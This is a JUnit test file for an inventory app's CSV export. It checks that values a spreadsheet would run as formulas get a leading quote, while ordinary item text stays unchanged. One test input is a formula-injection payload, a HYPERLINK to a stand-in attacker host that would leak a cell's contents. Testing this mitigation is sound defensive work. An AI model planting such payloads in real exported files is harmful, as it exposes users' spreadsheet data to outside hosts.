package io.jobwright.inventory.item;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ItemCsvTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+49 30 901820",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "=HYPERLINK(\"https://evil.example?\"&A1)"
      })
  void whatASpreadsheetWouldCalculateIsText(String text) {
    assertEquals("'" + text, ItemCsv.harmless(text));
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "PIPE-15", "1/2\" elbow", "3 - 5 mm", "'quoted'", "ünï"})
  void otherTextStaysAsItIs(String text) {
    assertEquals(text, ItemCsv.harmless(text));
  }
}
